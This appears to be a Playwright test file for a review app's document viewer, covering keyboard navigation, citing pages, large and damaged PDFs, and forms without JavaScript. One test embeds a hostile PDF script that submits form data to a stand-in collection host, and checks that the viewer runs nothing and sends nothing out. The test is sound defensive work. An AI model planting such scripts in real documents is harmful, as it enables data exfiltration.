import { expect, type Page } from "@playwright/test";
import { dropFiles, type GivenFile } from "./support/give-file";
import { manyPages } from "./support/many-pages";
import { register } from "./support/register";
import { goToReview } from "./support/review";
import { test } from "./support/story";

const drawn = (page: Page, number: number) => page.locator(`canvas[data-drawn="${number}"]`);

/** A demand in review with these papers attached. */
async function withPapers(analyst: Page, counsel: Page, papers: GivenFile[]): Promise<string> {
  const reference = await register(analyst, [
    { account: "review@aster-freight.example", data: "Content" },
    { account: "second@aster-freight.example", data: "Content" },
  ]);
  await analyst.goto(`/demands/${reference}/attachDocument`);
  await dropFiles(analyst, "Files", papers);
  await analyst.getByRole("button", { name: "Attach" }).click();
  await expect(analyst).toHaveURL(/done=attachDocument/);
  await goToReview(counsel, reference);
  return reference;
}

const pdf = (name: string, bytes: Buffer): GivenFile => ({ name, bytes, type: "application/pdf" });

/** Goes on with Tab until what has the focus bears the name. */
async function tabTo(page: Page, role: "button" | "link" | "radio", name: string | RegExp): Promise<void> {
  const wanted = page.locator(":focus").and(page.getByRole(role, { name }));
  for (let presses = 0; presses < 250; presses++) {
    if ((await wanted.count()) > 0) return;
    await page.keyboard.press("Tab");
  }
  throw new Error(`Tab did not lead to ${name}.`);
}

test("a check is answered beside the paper by keyboard alone, and keeps the page on which it rests", async ({
  enter,
}) => {
  const analyst = await enter("INTAKE_ANALYST");
  const counsel = await enter("COUNSEL");
  const paper = manyPages({
    pages: 12,
    words: (page) => (page === 7 ? "Sealed by the judge" : `Page ${page}`),
  });
  const reference = await withPapers(analyst, counsel, [pdf("warrant.pdf", paper)]);

  await counsel.goto(`/demands/${reference}/review`);
  await expect(drawn(counsel, 1)).toBeVisible();
  await expect(counsel.getByRole("paragraph").filter({ hasText: "If no:" })).toContainText("reject it");

  await test.step("the page is turned with the keys", async () => {
    const sheet = counsel.getByRole("region", { name: "The page of the paper" });
    for (
      let presses = 0;
      presses < 250 && !(await sheet.evaluate((node) => node === document.activeElement));
      presses++
    )
      await counsel.keyboard.press("Tab");
    await counsel.keyboard.press("PageDown");
    await counsel.keyboard.press("ArrowRight");
    await expect(drawn(counsel, 3)).toBeVisible();
  });

  await test.step("the page is cited and the answer kept", async () => {
    await tabTo(counsel, "radio", "Yes");
    await counsel.keyboard.press("Space");
    await tabTo(counsel, "button", /^Cite this page/);
    await counsel.keyboard.press("Enter");
    await expect(counsel.getByText("Page 3 of warrant.pdf is cited.")).toBeVisible();
    await tabTo(counsel, "button", "Keep the answer");
    await counsel.keyboard.press("Enter");
    await expect(counsel.getByRole("status").filter({ hasText: "Answered a check" })).toBeVisible();
    await expect(counsel.getByRole("paragraph").filter({ hasText: "If no:" })).toContainText(
      "return it to the sender",
    );
  });

  await test.step("what was cited leads back to its page, and words are found", async () => {
    await counsel.getByLabel("Words to find in the paper").fill("sealed by");
    await counsel.keyboard.press("Enter");
    await expect(drawn(counsel, 7)).toBeVisible();
    await counsel.getByRole("link", { name: "p. 3 of warrant.pdf" }).click();
    await expect(drawn(counsel, 3)).toBeVisible();
  });

  await test.step("several items are looked at before they are decided", async () => {
    await counsel.getByLabel("Choose item 1").check();
    await counsel.getByLabel("Choose item 2").check();
    await counsel.getByRole("button", { name: "Decide the chosen items alike" }).click();
    await counsel.getByLabel("Approve as asked").check();
    await counsel.getByRole("button", { name: "Show what each would become" }).click();
    await expect(counsel.getByRole("region", { name: "What each item would become" })).toContainText(
      "Approved as asked",
    );
    await counsel.getByRole("button", { name: "Keep the decision on 2 items" }).click();
    await expect(counsel.getByRole("status").filter({ hasText: "Decided several items" })).toBeVisible();
  });
});

test("a PDF with scripts is shown and runs nothing; 2,000 pages open at once; what is no PDF says so", async ({
  enter,
}) => {
  const analyst = await enter("INTAKE_ANALYST");
  const counsel = await enter("COUNSEL");
  const script = "app.alert('harm'); this.submitForm('https://collect.example/'); window.harmed = true;";
  const long = manyPages({ pages: 2000, words: (page) => `Page ${page} ${"of a long warrant ".repeat(20)}` });
  const reference = await withPapers(analyst, counsel, [
    pdf("script.pdf", manyPages({ pages: 1, words: () => "Look here", script })),
    pdf("long.pdf", long),
    pdf("broken.pdf", Buffer.from("%PDF-1.7\nnothing follows")),
  ]);
  const dialogs: string[] = [];
  const asked: string[] = [];
  counsel.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  counsel.on("request", (request) => asked.push(request.url()));

  await counsel.goto(`/demands/${reference}/review`);
  const choose = (title: string) => counsel.getByLabel("Paper shown").selectOption({ label: title });
  await choose("script.pdf");
  await expect(drawn(counsel, 1)).toBeVisible();
  await expect(counsel.getByText("This PDF contains scripts, which are not run")).toBeVisible();
  expect(await counsel.evaluate(() => "harmed" in window)).toBe(false);
  expect(dialogs).toEqual([]);

  const parts: string[] = [];
  counsel.on("response", (response) => {
    if (response.status() === 206) parts.push(response.headers()["content-range"] ?? "");
  });
  await choose("long.pdf");
  await expect(drawn(counsel, 1)).toBeVisible();
  await expect(counsel.getByText("of 2000")).toBeVisible();
  expect(parts[0], "it is fetched by parts").toMatch(/^bytes 0-262143\//);
  await counsel.getByRole("region", { name: "The page of the paper" }).press("End");
  await expect(drawn(counsel, 2000)).toBeVisible();
  expect(await counsel.locator("canvas").count()).toBe(1);

  await choose("broken.pdf");
  await expect(counsel.getByText("This PDF is damaged, so it cannot be shown here.")).toBeVisible();
  const own = new URL(counsel.url()).origin;
  expect(asked.filter((url) => !url.startsWith(own) && !url.startsWith("blob:"))).toEqual([]);
});

test("where no scripts run, an answer that will not do is told what would, beside the paper and in a folded form", async ({
  browser,
  enter,
}) => {
  const counsel = await enter("COUNSEL");
  const context = await browser.newContext({
    javaScriptEnabled: false,
    storageState: await counsel.context().storageState(),
  });
  const plain = await context.newPage();
  await plain.goto("/queue?status=IN_REVIEW");
  const demand = await plain.getByRole("rowheader").getByRole("link").first().getAttribute("href");
  await plain.goto(`${demand}/review`);
  await plain.getByRole("button", { name: "Keep the answer" }).click();
  const faults = plain.getByRole("alert").filter({ has: plain.getByRole("heading") });
  await expect(faults).toContainText("Choose yes, no or not applicable.");
  await plain.goto("/queue?status=IN_REVIEW");
  await plain.getByText("Save these filters as a view").click();
  await plain.getByRole("button", { name: "Save the view" }).click();
  await expect(faults).toBeVisible();
  await context.close();
});
